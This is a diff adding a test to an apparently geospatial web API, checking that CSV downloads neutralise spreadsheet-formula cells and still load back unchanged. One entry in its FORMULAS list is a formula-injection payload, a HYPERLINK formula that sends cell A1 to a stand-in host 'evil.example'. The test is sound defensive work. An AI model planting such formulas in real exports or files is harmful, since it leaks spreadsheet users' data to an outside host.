@@ -146,3 +146,37 @@ def test_nul_characters_are_refused_everywhere(world: World):
     check(world.client.get(BASE + "?q=a%00b"), 400)
     check(world.client.get("/api/v1/layers/durian_trees/features/a%00b"), 400)
     assert snapshot(world) == before
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"bấm")', "+84-912", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_downloads_neutralise_formulas(world: World, tmp_path):
+    import csv
+    import io
+
+    from geomap.io.csvcells import neutralise_frame
+    from geomap.io.load import load_file
+
+    for i, text in enumerate(FORMULAS):
+        tree = world.tree_in(slot=i, code=f"T-CSV-{i}", name=text, village=text)
+        assert world.client.post(BASE, json=tree, headers=world.auth("admin")).status_code == 201
+    r = world.client.get("/api/v1/layers/durian_trees/download", params={"format": "csv", "q": "T-CSV"})
+    assert r.status_code == 200
+    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(r.text, newline=""))}
+    assert len(rows) == len(FORMULAS)
+    for i, text in enumerate(FORMULAS):
+        row, stored = rows[f"T-CSV-{i}"], text.strip()  # the API strips surrounding blanks
+        assert row["name"] == "'" + stored and row["village"] == "'" + stored
+        assert float(row["lon"]) > 100 and not row["lon"].startswith("'")  # numbers are left alone
+    # A numeric column keeps its negative numbers; only text cells are quoted.
+    import pandas as pd
+
+    frame = neutralise_frame(pd.DataFrame({"n": [-12.5, 3.0, 1.0], "t": ["-12.5", "ok", "\tcmd"], "u": ["\r=1", None, "a-b"]}))
+    assert frame["n"].tolist() == [-12.5, 3.0, 1.0] and frame["t"].tolist() == ["'-12.5", "ok", "'\tcmd"]
+    assert frame["u"].tolist()[::2] == ["'\r=1", "a-b"]
+    # Loading the download back gives the original text: nothing changes.
+    path = tmp_path / "durian_trees.csv"
+    path.write_text(r.text, encoding="utf-8")
+    [result] = load_file(world.engine, path)
+    assert (result.inserted, result.updated, result.unchanged) == (0, 0, len(FORMULAS))
